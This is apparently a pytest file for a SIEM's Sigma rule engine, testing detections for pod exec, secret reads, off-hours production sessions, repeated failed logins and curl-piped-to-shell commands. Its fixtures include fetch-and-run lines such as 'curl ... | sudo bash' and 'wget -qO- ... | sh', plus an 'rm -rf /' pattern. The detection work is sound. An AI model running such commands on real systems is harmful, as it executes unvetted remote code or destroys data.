"""siem.rules.sigma: Sigma rules evaluated in-process, correlation windows, alert events."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from ingest.kube_audit import events_from_log_lines, parse_log_lines
from siem.rules import BusinessHours, RuleError, SigmaEngine
from siem.rules.sigma import locate_match
from storage.search.model import encode_times

FIXTURES = Path("/work/shared/fixtures")
if not FIXTURES.is_dir():
    FIXTURES = Path(__file__).resolve().parents[3] / "shared" / "fixtures"

EXEC_RULE = "6b3e6a8e-1a53-4c36-9d7e-3f0c5a1d2b01"
KUBE_SYSTEM_EXEC = "0e4a2b7c-5d1f-4d0e-8a5b-2c9f1e7d3a02"
CURL_SH = "9a1c3e5f-7b2d-4f6a-8c0e-1d3b5f7a9c03"
SECRET_READ = "3f7d9b1a-2c4e-4a6b-9d8f-5e1c3a7b9d04"
PROD_OFF_HOURS = "8c2e4a6b-9d1f-4b3c-a5e7-7f9b1d3c5e05"
FAILED_LOGIN = "4d8a0c2e-6f1b-4e3d-b7a9-9b1d3f5a7c06"
FAILED_LOGINS_5 = "5e9b1d3f-7a2c-4f4e-8b0a-ab2c4e6f8d07"


def _fixture_records() -> dict[str, list[dict[str, Any]]]:
    """Every fixture as the records the engine sees: kube.request events converted by
    ingest.kube_audit, the raw audit Events, and the Teleport events as they are."""
    out: dict[str, list[dict[str, Any]]] = {}
    for path in sorted((FIXTURES / "k8s-audit").glob("*.json")):
        with path.open("rb") as f:
            converted = events_from_log_lines(f, tenant="acme", kubernetes_cluster="minikube")
        with path.open("rb") as f:
            raw = list(parse_log_lines(f))
        out[f"{path.name}:converted"] = converted
        out[f"{path.name}:raw"] = raw
    lines = (FIXTURES / "teleport" / "events.jsonl").read_text().splitlines()
    out["teleport/events.jsonl"] = [json.loads(line) for line in lines if line.strip()]
    return out


def test_fixtures_are_all_present() -> None:
    recs = _fixture_records()
    assert len(recs) == 7
    assert all(recs.values())


def test_exec_rule_fires_on_exec_pod_converted_and_raw_and_on_no_other_fixture() -> None:
    engine = SigmaEngine.starter()
    fired = {
        name: [r for r in records if EXEC_RULE in engine.matching_rules(r)]
        for name, records in _fixture_records().items()
    }
    assert {name for name, hits in fired.items() if hits} == {
        "exec_pod.json:converted",
        "exec_pod.json:raw",
    }
    assert len(fired["exec_pod.json:converted"]) == 1
    assert fired["exec_pod.json:converted"][0]["kubernetes_subresource"] == "exec"


def test_exec_alert_names_the_rule_the_event_and_the_user() -> None:
    engine = SigmaEngine.starter()
    (event,) = _fixture_records()["exec_pod.json:converted"]
    alerts = engine.evaluate(event)
    assert [a["rule_id"] for a in alerts] == [EXEC_RULE]
    alert = alerts[0]
    assert alert["event"] == "alert.sigma"
    assert alert["matched_uid"] == event["uid"]
    assert alert["level"] == "medium"
    assert alert["user"] == "minikube-user"
    assert alert["tenant"] == "acme"
    assert engine.evaluate(event)[0]["uid"] == alert["uid"]  # same match, same alert uid
    assert engine.evaluate(alert) == []  # alerts are not evaluated again


def test_no_starter_rule_fires_on_the_teleport_fixture() -> None:
    engine = SigmaEngine.starter()
    for rec in _fixture_records()["teleport/events.jsonl"]:
        assert engine.evaluate(rec) == []


# -- the rule language ----------------------------------------------------------------------

RULE = """
title: language test
id: 00000000-0000-4000-8000-000000000001
logsource: {product: sessionvault, service: audit}
detection:
  sel_path:
    request_path|contains|all: ['/pods/', '/exec']
    user|startswith: 'dev-'
  sel_end:
    login|endswith: 'admin'
  sel_re:
    command_line|re: '^rm\\s+-rf\\s+/'
  net:
    addr.remote|cidr: 10.0.0.0/8
  noise:
    user: dev-bot
  condition: (1 of sel_* and net and not noise) or all of sel_*
level: high
"""


EXEC_PATH = "/api/v1/pods/p/exec"
LOG_PATH = "/api/v1/pods/p/log"


def _ev(**kw: Any) -> dict[str, Any]:
    base = {"sv_version": 1, "tenant": "t", "event": "x", "uid": "u"}
    return {**base, "time": "2026-01-01T00:00:00Z", **kw}


@pytest.mark.parametrize(
    ("fields", "fires"),
    [
        ({"request_path": EXEC_PATH, "user": "dev-ann", "addr.remote": "10.2.3.4:1"}, True),
        ({"request_path": EXEC_PATH, "user": "DEV-ann", "addr.remote": "10.2.3.4"}, True),
        ({"request_path": LOG_PATH, "user": "dev-ann", "addr.remote": "10.2.3.4:1"}, False),
        ({"request_path": EXEC_PATH, "user": "dev-ann", "addr.remote": "11.0.0.1:1"}, False),
        ({"request_path": EXEC_PATH, "user": "dev-bot", "addr.remote": "10.0.0.1:1"}, False),
        ({"login": "sysadmin", "addr.remote": "[::ffff:10.0.0.1]:22"}, False),
        ({"login": "sysadmin", "addr.remote": "10.9.9.9:22"}, True),
        ({"path": "rm", "argv": ["-rf", "/data"], "addr.remote": "10.9.9.9:22"}, True),
        ({"path": "rm", "argv": ["-rf", "data"], "addr.remote": "10.9.9.9:22"}, False),
        ({"request_path": "/pods/x/exec", "user": "dev-bot", "login": "admin",
          "command": "rm -rf /", "addr.remote": "1.1.1.1"}, True),
    ],
)  # fmt: skip
def test_modifiers_and_conditions(fields: dict[str, Any], fires: bool) -> None:
    engine = SigmaEngine.from_sources([RULE])
    assert bool(engine.evaluate(_ev(**fields))) is fires


def test_unsupported_logsource_is_refused_at_load() -> None:
    bad = RULE.replace("product: sessionvault, service: audit", "product: windows")
    with pytest.raises(RuleError, match="logsource"):
        SigmaEngine.from_sources([bad])
    with pytest.raises(RuleError):
        SigmaEngine.from_sources(["title: x\ndetection: {condition: sel}\n"])


# -- starter rules ---------------------------------------------------------------------------

START = "2026-01-05T10:00:00Z"  # a Monday


def test_kubectl_exec_into_kube_system() -> None:
    engine = SigmaEngine.starter()
    base = _ev(event="kube.request", user="ann", kubernetes_subresource="exec",
               resource_kind="pods", kubernetes_verb="create", verb="POST")  # fmt: skip
    assert KUBE_SYSTEM_EXEC in engine.matching_rules({**base, "resource_namespace": "kube-system"})
    assert KUBE_SYSTEM_EXEC not in engine.matching_rules({**base, "resource_namespace": "default"})
    tele = _ev(event="exec", kubernetes_cluster="c", kubernetes_pod_namespace="kube-system")
    assert KUBE_SYSTEM_EXEC in engine.matching_rules(tele)


@pytest.mark.parametrize(
    ("text", "fires"),
    [
        ("$ curl -fsSL https://get.example.com | sh", True),
        ("root@h:~# wget -qO- http://x/i.sh |sudo bash", True),
        ("$ curl https://x | sudo -E zsh -s", True),
        ("$ curl -o out.sh https://x && less out.sh", False),
        ("$ echo curl | shasum", False),
        ("$ cat file | sh", False),
    ],
)
def test_curl_pipe_shell_in_terminal_output(text: str, fires: bool) -> None:
    engine = SigmaEngine.starter()
    seg = {"kind": "output", "tenant": "t", "sid": "s1", "seg_no": 3, "start_ms": 4200,
           "end_ms": 4300, "text": text, "time": START}  # fmt: skip
    alerts = [a for a in engine.evaluate(seg) if a["rule_id"] == CURL_SH]
    assert bool(alerts) is fires
    if fires:
        assert alerts[0]["replay"] == "sessionvault play s1 --start-at 4.200"
        assert alerts[0]["matched_uid"] == "s1/3"


def test_curl_pipe_shell_in_a_command_event_links_to_the_offset_in_the_session() -> None:
    engine = SigmaEngine.starter()
    engine.evaluate(_ev(event="session.start", sid="s2", uid="start", time=START))
    cmd = _ev(event="session.command", sid="s2", uid="c1", time="2026-01-05T10:00:12.5Z",
              path="/bin/sh", argv=["-c", "curl -s https://x/i.sh | bash"])  # fmt: skip
    alerts = [a for a in engine.evaluate(cmd) if a["rule_id"] == CURL_SH]
    assert len(alerts) == 1
    assert alerts[0]["offset_ms"] == 12_500
    assert alerts[0]["replay"] == "sessionvault play s2 --start-at 12.500"
    # a session whose start this engine never saw: the injected lookup answers
    other = SigmaEngine.starter(session_start_ms=lambda sid: 1767607200000 if sid == "s3" else None)
    alerts = other.evaluate({**cmd, "sid": "s3"})
    assert alerts[0]["replay"] == "sessionvault play s3 --start-at 12.500"


@pytest.mark.parametrize(
    ("user", "verb", "fires"),
    [
        ("alice@example.com", "GET", True),
        ("system:serviceaccount:kube-system:default", "GET", False),
        ("system:kube-controller-manager", "GET", False),
        ("alice@example.com", "POST", False),
    ],
)
def test_secret_read_by_a_human(user: str, verb: str, fires: bool) -> None:
    engine = SigmaEngine.starter()
    ev = _ev(event="kube.request", user=user, verb=verb, resource_kind="secrets",
             request_path="/api/v1/namespaces/a/secrets/db")  # fmt: skip
    assert (SECRET_READ in engine.matching_rules(ev)) is fires


@pytest.mark.parametrize(
    ("time", "labels", "fires"),
    [
        ("2026-01-05T17:30:00Z", {"env": "prod"}, True),  # 18:30 in Berlin (winter, UTC+1)
        ("2026-01-05T08:30:00Z", {"env": "prod"}, False),  # 09:30 in Berlin
        ("2026-07-06T16:30:00Z", {"env": "prod"}, True),  # 18:30 in Berlin (summer, UTC+2)
        ("2026-07-06T15:30:00Z", {"env": "prod"}, False),  # 17:30 in Berlin
        ("2026-01-10T10:00:00Z", {"env": "production"}, True),  # Saturday
        ("2026-01-05T22:00:00Z", {"env": "staging"}, False),
        ("2026-01-05T22:00:00Z", {}, False),
    ],
)
def test_session_on_a_prod_node_outside_business_hours(
    time: str, labels: dict[str, str], fires: bool
) -> None:
    hours = BusinessHours(timezone="Europe/Berlin", start_hour=8, end_hour=18)
    engine = SigmaEngine.starter(business_hours=hours)
    ev = _ev(event="session.start", time=time, sid="s9", server_labels=labels)
    assert (PROD_OFF_HOURS in engine.matching_rules(ev)) is fires


# -- correlation -----------------------------------------------------------------------------


def _fail(user: str, second: float, n: int, *, use_code: bool = False) -> dict[str, Any]:
    ms = int(second * 1000)
    when = f"2026-01-05T10:{ms // 60000:02d}:{ms % 60000 // 1000:02d}.{ms % 1000:03d}Z"
    ev = _ev(event="user.login", user=user, uid=f"{user}-{n}", time=when)
    if use_code:
        ev["code"] = "T1000W"
    else:
        ev["success"] = False
    return ev


def _correlation_alerts(engine: SigmaEngine, events: list[dict[str, Any]]) -> list[dict[str, Any]]:
    out = []
    for ev in events:
        out += [a for a in engine.evaluate(ev) if a["rule_id"] == FAILED_LOGINS_5]
    return out


def test_five_failed_logins_by_one_user_within_a_minute_fire_once() -> None:
    engine = SigmaEngine.starter()
    alerts = _correlation_alerts(
        engine, [_fail("bob", s, i) for i, s in enumerate([0, 10, 20, 30, 59.9])]
    )
    assert len(alerts) == 1
    corr = alerts[0]["correlation"]
    assert corr["group"] == {"user": "bob"}
    assert corr["count"] == 5
    assert corr["matched_uids"] == [f"bob-{i}" for i in range(5)]
    assert alerts[0]["level"] == "high"


def test_four_failed_logins_do_not_fire() -> None:
    engine = SigmaEngine.starter()
    assert (
        _correlation_alerts(engine, [_fail("bob", s, i) for i, s in enumerate([0, 1, 2, 3])]) == []
    )


def test_five_failed_logins_spread_over_more_than_a_minute_do_not_fire() -> None:
    engine = SigmaEngine.starter()
    events = [_fail("bob", s, i, use_code=True) for i, s in enumerate([0, 15, 30, 45, 60.5])]
    assert _correlation_alerts(engine, events) == []
    # ... but one more inside the window of the last four does
    assert len(_correlation_alerts(engine, [_fail("bob", 61, 9, use_code=True)])) == 1


def test_failed_logins_of_different_users_are_not_combined() -> None:
    engine = SigmaEngine.starter()
    pairs = [("a", 0), ("b", 1), ("a", 2), ("b", 3), ("a", 4), ("b", 5), ("a", 6), ("b", 7)]
    events = [_fail(u, s, i) for i, (u, s) in enumerate(pairs)]
    assert _correlation_alerts(engine, events) == []


def test_the_base_rule_of_a_correlation_emits_no_alert_of_its_own() -> None:
    engine = SigmaEngine.starter()
    assert FAILED_LOGIN in engine.matching_rules(_fail("bob", 0, 0))
    assert engine.evaluate(_fail("bob", 0, 0)) == []


def test_correlation_memory_is_bounded_by_max_groups() -> None:
    engine = SigmaEngine.starter(max_groups=3)
    for i in range(100):
        engine.evaluate(_fail(f"user{i}", 0, 0))
    corr = engine._correlations[0]
    assert len(corr.groups) == 3
    assert all(len(w) <= corr.threshold for w in corr.groups.values())


def _typed_segment(
    prompt: str, command: str, *, prompt_ms: int, first_key_ms: int
) -> dict[str, Any]:
    """An output segment: the prompt written at once, then the command echoed key by key,
    250 ms apart (the per-character ``times`` the segmenter stores)."""
    text = prompt + command
    times = [prompt_ms] * len(prompt) + [first_key_ms + 250 * i for i in range(len(command))]
    return {
        "kind": "output", "tenant": "t", "sid": "s9", "seg_no": 7, "id": "s9/7",
        "start_ms": prompt_ms, "end_ms": times[-1],
        "time_us": 1_767_607_200_000_000 + prompt_ms * 1000,
        "time": "2026-01-05T10:00:00.500000Z", "text": text, "times": list(encode_times(times)),
    }  # fmt: skip


def test_output_alert_links_to_when_the_command_began_to_be_typed_not_to_the_prompt() -> None:
    # The prompt was printed at 0.5 s; the user typed the command an hour later.
    seg = _typed_segment("root@db-1:~# ", "curl -s https://x.example/i.sh | sudo bash",
                         prompt_ms=500, first_key_ms=3_600_000)  # fmt: skip
    alerts = [a for a in SigmaEngine.starter().evaluate(seg) if a["rule_id"] == CURL_SH]
    assert len(alerts) == 1
    assert alerts[0]["offset_ms"] == 3_600_000
    assert alerts[0]["replay"] == "sessionvault play s9 --start-at 3600.000"
    # the alert's time moves with it: session start (time_us - start_ms) + offset
    assert alerts[0]["time"] == "2026-01-05T11:00:00.000000Z"
    # same segment, same alert: the uid does not depend on where the match is
    assert SigmaEngine.starter().evaluate(seg)[0]["uid"] == alerts[0]["uid"]


def test_output_alert_without_per_character_times_falls_back_to_the_line_start() -> None:
    seg = _typed_segment("$ ", "wget -qO- http://x/i.sh | sh", prompt_ms=1200, first_key_ms=9000)
    del seg["times"]
    alerts = [a for a in SigmaEngine.starter().evaluate(seg) if a["rule_id"] == CURL_SH]
    assert alerts[0]["offset_ms"] == 1200


@pytest.mark.parametrize(
    ("text", "pattern", "start"),
    [
        ("$ curl x | sh", r"curl[^|]*\|\s*sh", 2),
        ("a curl b curl c | sh", r"curl[^|]*\|\s*sh", 9),  # the occurrence that completes it
        ("no match here", r"zzz", None),
        ("xxab", r"ab", 2),
    ],
)
def test_locate_match_finds_the_start_of_the_shortest_latest_window_that_fires(
    text: str, pattern: str, start: int | None
) -> None:
    import re

    rx = re.compile(pattern)
    assert locate_match(text, lambda t: bool(rx.search(t))) == start


def test_locate_match_gives_up_when_the_rule_does_not_depend_on_the_text() -> None:
    assert locate_match("anything", lambda t: True) is None
    # not monotone (fires only on the whole line): located nowhere rather than somewhere wrong
    assert locate_match("abc", lambda t: t == "abc") in (0, None)


def test_an_output_alert_needs_no_session_start_lookup() -> None:
    asked: list[str] = []

    def lookup(sid: str) -> int | None:
        asked.append(sid)
        return None

    seg = _typed_segment("$ ", "curl -s https://x/i.sh | sh", prompt_ms=100, first_key_ms=2000)
    alerts = SigmaEngine.starter(session_start_ms=lookup).evaluate(seg)
    assert [a["offset_ms"] for a in alerts] == [2000]
    assert asked == []
